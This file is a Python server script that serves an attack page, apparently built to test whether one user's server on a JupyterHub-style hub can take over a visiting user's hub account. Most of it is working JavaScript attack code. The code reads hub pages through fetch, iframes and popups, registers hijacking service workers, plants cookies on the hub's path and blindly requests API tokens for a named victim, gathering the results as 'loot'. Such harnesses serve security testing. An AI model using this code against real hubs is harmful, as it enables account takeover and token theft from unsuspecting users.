"""A page of a user's server that wants its visitor's account at the hub.

Started as `python3 -c THIS PORT`. What each way has brought stands in the page, as JSON.
"""

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>plots</title><body><pre id=loot></pre><script>
const loot = {}, given = new URLSearchParams(location.search);
const base = given.get("base"), victim = given.get("victim");
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.status + " " + answer.url + " " + await answer.text();
};
const attempt = async (name, act) => {
  try { loot[name] = String(await act()); } catch (error) { loot[name] = "refused: " + error.name; }
};
const framed = async (kind, url) => {
  const frame = document.createElement(kind);
  frame[kind === "object" ? "data" : "src"] = url;
  document.body.append(frame);
  await later(1500);
  const inside = frame.contentDocument;
  return inside.documentElement.outerHTML + " " + inside.cookie;
};
const opened = async (url) => {
  const popup = window.open(url);
  await later(2000);
  try { return popup.document.documentElement.outerHTML + " " + popup.document.cookie; }
  finally { popup.close(); }
};
(async () => {
  const pages = ["home", "spawn", "token", "admin", "login", "user/" + victim + "/lab", "user/nobody/api/x",
    "nonexistent", "api/oauth2/authorize?client_id=x", "logo/x", "ap%69/x", "st%61tic/x", "health",
    "error/404", "static/%2e%2e%2fhome", "security/csp-report", "api/nonexistent", "api/user", "api/users",
    ""];
  const ways = [{}, {mode: "no-cors"}, {mode: "same-origin"}, {method: "POST"}, {method: "PUT", body: "{}"},
    {redirect: "manual"}, {cache: "force-cache"}, {cache: "only-if-cached", mode: "same-origin"},
    {referrer: base + "hub/home"}, {headers: {Accept: "text/html", "Sec-Fetch-Mode": "navigate"}}];
  // What the visitor's own browser may have kept of the hub's pages: so they are looked at first.
  for (const page of ["home", "nonexistent", "st%61tic/x"])
    await attempt("window of " + page, () => opened(base + "hub/" + page));
  for (const page of pages)
    for (const [number, way] of ways.entries())
      await attempt("fetch " + number + " of " + page, () => read(base + "hub/" + page, way));
  await attempt("root", () => read(base));
  await attempt("through my server", () => read("away?to=" + encodeURIComponent(base + "hub/home")));
  await attempt("through a server that is not there", () => read(base + "user/nobody/lab"));
  for (const kind of ["iframe", "object", "embed"])
    for (const page of ["home", "static/css/style.min.css", "api/user"])
      await attempt(kind + " of " + page, () => framed(kind, base + "hub/" + page));
  await attempt("script", async () => {
    const script = document.createElement("script");
    script.src = base + "hub/home";
    document.body.append(script);
    await later(500);
    return JSON.stringify(window.jhdata);
  });
  await attempt("cookies of the hub's paths", () => {
    const here = location.href;
    history.pushState({}, "", base + "hub/home");
    const found = document.cookie;
    history.replaceState({}, "", here);
    return found;
  });
  for (const scope of [base, base + "hub/", base + "user/" + victim + "/"])
    await attempt("worker for " + scope, async () =>
      "registered " + (await navigator.serviceWorker.register("worker.js", {scope})).scope);
  await attempt("worker of mine", async () =>
    "registered " + (await navigator.serviceWorker.register("worker.js", {scope: "./"})).scope);
  await attempt("blind token", () => read(base + "hub/api/users/" + victim + "/tokens", {
    method: "POST", body: "{}", headers: {"Content-Type": "application/json", Referer: base + "hub/home"}}));
  document.getElementById("loot").textContent = JSON.stringify(loot);
})();
</script>"""

WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('caught')));"


class Server(BaseHTTPRequestHandler):
    """Answers anybody, whatever they ask for."""

    def do_GET(self) -> None:
        """Send the page, the worker's program, or away."""
        path = self.path.partition("?")[0]
        if path.endswith("/away"):
            self.send_response(302)
            self.send_header("Location", "/hub/home")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        worker = path.endswith("/worker.js")
        body = (WORKER if worker else PAGE).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Set-Cookie", "planted=1; Path=/")
        self.send_header("Set-Cookie", "planted-for-hub=1; path=/hub/; Domain=localhost")
        self.send_header("Clear-Site-Data", '"cookies"')
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Nothing."""


ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), Server).serve_forever()
